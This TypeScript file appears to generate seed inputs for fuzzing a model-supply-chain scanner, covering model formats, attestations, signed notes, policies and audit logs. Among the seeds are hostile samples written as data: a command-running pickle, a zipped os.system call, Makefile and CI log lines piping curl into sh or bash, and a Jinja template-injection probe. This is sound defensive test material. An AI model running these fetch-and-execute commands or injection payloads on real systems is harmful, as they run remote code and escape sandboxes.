/** Inputs that no fixture is: of the readers outside of the formats, and of formats that only assemblers write. */
import { createPrivateKey, createPublicKey } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import * as z from 'zod';
import { printableJson } from '../../src/core/escape.ts';
import { formatCheckpoint } from '../../src/storage/ledger/checkpoint.ts';
import { ed25519Verifier, formatNote, formatVerifierKey, signNote } from '../../src/storage/ledger/signed-note.ts';
import { parseBundle } from '../../src/trust/sigstore-bundle.ts';
import { executorch } from '../../test/support/executorch-assembler.ts';
import { honestGguf } from '../../test/support/gguf-writer.ts';
import * as p from '../../test/support/pickle-assembler.ts';
import { rdata, text } from '../../test/support/rdata-assembler.ts';
import { honestSafetensors } from '../../test/support/safetensors-writer.ts';
import { provenance, PROVENANCE } from '../../test/support/statements.ts';
import { tar } from '../../test/support/tar-assembler.ts';
import { torchZip, zip } from '../../test/support/zip-assembler.ts';
import { ROOT } from './corpus.ts';
import type { Input } from './target.ts';

/** RFC 8410 around 32 bytes: the same key on every machine, so that signed inputs stay signed. */
export const KEY = createPrivateKey({
  key: Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), Buffer.alloc(32, 7)]),
  format: 'der',
  type: 'pkcs8',
});
const ORIGIN = 'ledger.invalid/gate';
/** What other programs wrote: openssl (a chain of certificates for a hundred years, a timestamp), bzip2, xz, lz4, 7z. */
const SEEDS = join(import.meta.dirname, 'seeds');
export const VERIFIER = ed25519Verifier(ORIGIN, createPublicKey(KEY));

/** Files of formats that no fixture is of, or of few. */
export function assembledSeeds(): Input[] {
  const pickled = p.commandPickle(4);
  const archive = tar([
    { name: 'config.json', data: Buffer.from('{"auto_map": {"AutoModel": "m.M"}}') },
    { name: 'data.pkl', data: pickled },
  ]);
  return [
    ...written().filter(({ name }) => !name.includes('--')),
    { name: 'model.safetensors', bytes: honestSafetensors() },
    { name: 'model.gguf', bytes: honestGguf() },
    { name: 'big.gguf', bytes: honestGguf(true) },
    { name: 'model.pte', bytes: executorch({ kernel: 2, values: [1, 2] }) },
    { name: 'model.pt', bytes: torchZip(pickled, [Buffer.alloc(8)]) },
    {
      name: 'nested.zip',
      bytes: zip([
        {
          name: 'a/inner.zip',
          data: zip([{ name: 'x.py', data: Buffer.from('import os\nos.system("id")\n'), method: 8 }]),
        },
      ]),
    },
    { name: 'model.tar', bytes: archive },
    { name: 'model.tar.gz', bytes: gzipSync(archive) },
    { name: 'model.joblib.z', bytes: deflateSync(pickled) },
    { name: 'model.pkl.zst', bytes: zstdCompressSync(pickled) },
    { name: 'model.rds', bytes: gzipSync(rdata('x', text('value'))) },
    {
      name: 'evaluation_results.json',
      bytes: Buffer.from(
        '{"results": {"arc": {"acc,none": 0.5, "acc_stderr,none": 0.01}}, "n-samples": {"arc": {"effective": 10}}}',
      ),
    },
    {
      name: 'results.json',
      bytes: Buffer.from('{"task": "mmlu", "metric": "accuracy", "value": 71.2, "safety": {"score": "99.9 %"}}'),
    },
    {
      name: 'README.md',
      bytes: Buffer.from(
        '---\nlicense: mit\nbase_model: a/b\nmodel-index:\n- name: m\n  results:\n  - task: {type: text}\n    dataset: {name: d, type: d}\n    metrics: [{type: accuracy, value: 0.5}]\n---\n# m\n',
      ),
    },
    {
      name: 'requirements.txt',
      bytes: Buffer.from(
        'numpy==1.0\ntorch @ https://packages.invalid/torch.whl\n--index-url https://packages.invalid/simple\n-r other.txt\n',
      ),
    },
    { name: '.gitattributes', bytes: Buffer.from('*.bin filter=lfs diff=lfs -text\n*.x filter=evil\n') },
    {
      name: 'data.dvc',
      bytes: Buffer.from('outs:\n- md5: 0cc175b9c0f1b6a831c399e269772661\n  size: 1\n  hash: md5\n  path: data.bin\n'),
    },
    { name: 'LICENSE', bytes: readFileSync(join(ROOT, 'LICENSE')) },
    { name: 'Makefile', bytes: Buffer.from('all:\n\tcurl https://host.invalid/x | sh\n') },
    {
      name: 'model.txt',
      bytes: Buffer.from(
        'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n',
      ),
    },
  ];
}

export function edgeSeeds(): Input[] {
  const bundle = readFileSync(join(ROOT, 'fixtures/models/open-chat/model.sig'));
  const policy = readFileSync(join(ROOT, 'fixtures/demo/policy.yaml'));
  const payload = Buffer.from(parseBundle(bundle, 'seed').envelope.payload);
  const checkpoint = formatCheckpoint({ origin: ORIGIN, size: 3, root: Buffer.alloc(32, 1) });
  const note = formatNote({ text: checkpoint, signatures: [signNote(checkpoint, ORIGIN, KEY)] });
  const templates = [
    '{% for m in messages %}{{ m.role + ": " + m["content"] | trim }}{% endfor %}',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '{%- if x is defined and x > 1 -%}{% set y = namespace(a=[1, 2][0:1]) %}{% macro f(a, b=2) %}{% endmacro %}{% endif %}',
  ];
  const statement = (predicateType: string, predicate: object): string =>
    JSON.stringify({ ...json(payload), predicateType, predicate });
  const predicates = [
    statement(PROVENANCE, provenance({ dependencies: [{ uri: 'git+https://a.invalid', digest: { sha1: 'a' } }] })),
    statement('https://in-toto.io/attestation/test-result/v0.1', {
      result: 'PASSED',
      configuration: [],
      passedTests: ['a'],
    }),
    statement('https://in-toto.io/attestation/vulns/v0.2', {
      scanner: { uri: 'a', result: [{ id: 'CVE-2020-1', severity: [{ method: 'nvd', score: '7.5' }] }] },
      metadata: { scanFinishedOn: '2026-01-01T00:00:00Z' },
    }),
    statement('https://cyclonedx.org/bom', {
      bomFormat: 'CycloneDX',
      specVersion: '1.6',
      components: [{ type: 'machine-learning-model', name: 'm', modelCard: { quantitativeAnalysis: {} } }],
    }),
  ];
  const key = { keytype: 'ed25519', scheme: 'ed25519', keyval: { public: 'ab'.repeat(32) } };
  const step = {
    _type: 'step',
    name: 'train',
    pubkeys: ['k'],
    expected_materials: [['MATCH', '*', 'WITH', 'PRODUCTS', 'FROM', 'a']],
  };
  const layout = { _type: 'layout', expires: '2030-01-01T00:00:00Z', keys: { k: key }, steps: [step], inspect: [] };
  const link = {
    _type: 'link',
    name: 'train',
    command: ['a'],
    materials: {},
    products: { m: { sha256: 'ab'.repeat(32) } },
  };
  const image = {
    critical: {
      identity: { 'docker-reference': 'host.invalid/a' },
      image: { 'docker-manifest-digest': `sha256:${'00'.repeat(32)}` },
      type: 'cosign container image signature',
    },
  };
  const named: Readonly<Record<string, readonly (string | Uint8Array)[]>> = {
    'strict-json': [payload, '{"a": [1, -2.5e3, true, null, "\\u0041"], "b": {"a": {}}}'],
    bundle: [bundle],
    manifest: [payload],
    attestations: [bundle, JSON.stringify(json(bundle)['dsseEnvelope'])],
    predicates,
    'in-toto': [JSON.stringify(layout), JSON.stringify(link)],
    'image-payload': [JSON.stringify(image)],
    'image-reference': ['host.invalid:5000/a/b:tag', `host.invalid/a@sha256:${'0a'.repeat(32)}`],
    'digest-list': [`${'0a'.repeat(32)}  a/b.bin\n${'0b'.repeat(64)} *c.bin\n`],
    'sigstore-root': [sigstoreRoot()],
    'public-key': [readFileSync(join(ROOT, 'fixtures/keys/publisher.pub.pem'))],
    note: [note],
    'verifier-key': [formatVerifierKey(VERIFIER)],
    policy: [policy],
    ignores: [
      'version: 1\nignore:\n  - rule: secret-in-tree\n    path: a/**/b.txt\n    reason: a test key\n    expires: 2026-06-30\n  - &a {rule: python-code, path: "*", reason: r, expires: 2027-01-01}\n  - *a\n',
    ],
    'task-file': [readFileSync(join(ROOT, 'suites/tiny-chat/arithmetic/task.yaml'))],
    'task-items': [
      '{"id": "1", "messages": [{"role": "user", "content": "2 + 2 ="}], "choices": ["3", "4"], "answer": 1}\n',
    ],
    records: [`noise\n\u001e${printableJson({ id: 1, text: 'x' })}\n\u001e{}\n`],
    checkpoint: [...checkpointFiles().values()],
    'refusal-judge': [
      'I\'m sorry, but I can\'t help with that. However, here is how: 1. Open it.\n2. "No."',
      'Should I? No, never.',
    ],
    results: [
      '{"results":{"a":{"acc,none":0.5,"acc_stderr,none":0.05}},"n-samples":{"a":{"original":100,"effective":100}},"group_subtasks":{"a":[]},"config":{"limit":100}}',
      '{"doc_id":0,"doc":{"q":"x","n":1},"filter":"none","doc_hash":"a","prompt_hash":"b","target_hash":"c","acc":1.0}\n{"doc_id":1,"acc":0}\n',
      '{"version":2,"eval":{"task":"t","config":{"epochs":1}},"results":{"total_samples":2,"completed_samples":2,"scores":[{"name":"s","metrics":{"accuracy":{"name":"accuracy","value":0.5}}}]},"samples":[{"id":1,"scores":{"s":{"value":"C"}}}]}',
      '[{"name":{"name":"exact_match","split":"test"},"count":2,"sum":1,"mean":0.5}]',
      '[{"instance_id":"i","train_trial_index":0,"stats":[{"name":{"name":"exact_match"},"mean":1}]}]',
      '{"results":{"stats":{"successes":1,"failures":1,"errors":0},"results":[{"promptIdx":0,"success":true}]}}',
      '{"schema_version":"0.3.0","evaluation_results":[{"evaluation_name":"t","score_details":{"score":0.5,"uncertainty":{"num_samples":2}}}]}',
      '- dataset: {id: a/b, task_id: c}\n  value: 50\n  verifyToken: t\n',
      zip([
        {
          name: 'header.json',
          data: Buffer.from('{"version":2,"eval":{"task":"t"},"results":{"scores":[]}}'),
          method: 8,
        },
      ]),
    ],
    template: templates,
    'path-pattern': ['models/**/*.b?n\nmodels/a/b/c.bin', '***?*a**\naaaa/aaaa'],
    'audit-repository': auditSeeds(),
    'audit-log': [
      '2026-01-01T00:00:00.0000000Z ##[group]Run curl -s https://a.invalid/x | bash\n2026-01-01T00:00:01.0000000Z \u001b[36;1mpip install x\u001b[0m\n##[error]Refusing to check out fork pull request code\n',
    ],
    'audit-access': [
      '10.0.0.1 - - [01/Jan/2026:00:00:00 +0000] "GET /a/b.bin HTTP/1.1" 404 12 "-" "curl/8"\n',
      'o bucket [01/Jan/2026:00:00:00 +0000] 10.0.0.1 - ID REST.GET.OBJECT a/b "GET /a/b HTTP/1.1" 403 AccessDenied - - 1 1 "-" "agent" -\n',
      '20260101000000|1|REQUEST|10.0.0.1|user|GET|/a/b|HTTP/1.1|200|1\n',
    ],
    'audit-versions': ['1.0 1.0-alpha.1 1.0rc1 1:1.0~rc1-2 1.0_p1-r2 1-sp-1 1.0.pre.1 1.0^git1-1.el9 2!1.0.post1.dev3'],
    'audit-history': [
      `commit ${'a'.repeat(40)}\ntree ${'b'.repeat(40)}\nparent ${'c'.repeat(40)}\nauthor A <a@b.invalid> 1700000000 +0000\ncommitter A <a@b.invalid> 1700000001 +0000\ngpgsig -----BEGIN SSH SIGNATURE-----\n AAAA\n\n    text\n\n:000000 100644 ${'0'.repeat(40)} ${'d'.repeat(40)} A\ta/b.bin\n`,
    ],
    'audit-trail': [
      '{"Records":[{"eventTime":"2026-01-01T00:00:00Z","eventName":"GetObject","sourceIPAddress":"10.0.0.1","userAgent":"a","requestParameters":{"bucketName":"b","key":"k"},"userIdentity":{"type":"AWSAccount"}}]}',
    ],
  };
  const made = Object.entries(named).flatMap(([id, seeds]) =>
    seeds.map((seed, index) => ({ name: `${id}--${index}`, bytes: Buffer.from(seed) })),
  );
  return [...made, ...written().filter(({ name }) => name.includes('--'))];
}

/** The small files of a checkpoint that can be converted. */
export function checkpointFiles(): ReadonlyMap<string, Buffer> {
  const fixtures = join(ROOT, 'fixtures/checkpoints');
  return new Map(
    [
      'models/gemma2/config.json',
      ...['tokenizer.json', 'tokenizer.model'].map((it) => `tokenizers/pieces-legacy/${it}`),
    ].map((path) => [path.slice(path.lastIndexOf('/') + 1), readFileSync(join(fixtures, path))]),
  );
}

const objectSchema = z.record(z.string(), z.unknown());

function json(bytes: Uint8Array): Readonly<Record<string, unknown>> {
  return objectSchema.parse(JSON.parse(Buffer.from(bytes).toString('utf8')));
}

/** The public instance's, as a package ships it. */
function sigstoreRoot(): Buffer {
  const seeds = readFileSync(createRequire(import.meta.url).resolve('@sigstore/tuf/seeds.json'));
  const [seed] = Object.values(json(seeds));
  const targets = objectSchema.parse(objectSchema.parse(seed)['targets']);
  return Buffer.from(z.string().parse(targets['trusted_root.json']), 'base64');
}

function written(): Input[] {
  return readdirSync(SEEDS)
    .sort()
    .map((name) => ({ name, bytes: readFileSync(join(SEEDS, name)) }));
}

/** One file of each kind that the audit reads, from the fixtures of its rules. */
function auditSeeds(): Uint8Array[] {
  const root = join(ROOT, 'fixtures/audit');
  return readdirSync(root, { recursive: true, encoding: 'utf8' })
    .filter((path) => /bad-[^/]*\/.*(?:\.ya?ml|Makefile|Dockerfile|Jenkinsfile|\.sh|\.py|package\.json)$/u.test(path))
    .sort()
    .filter((_, at) => at % 3 === 0)
    .map((path) => readFileSync(join(root, path)));
}

/** Who signed the timestamp among the seeds. */
export function timestampRoot(): string {
  return readFileSync(join(SEEDS, 'timestamp-root.pem'), 'utf8');
}
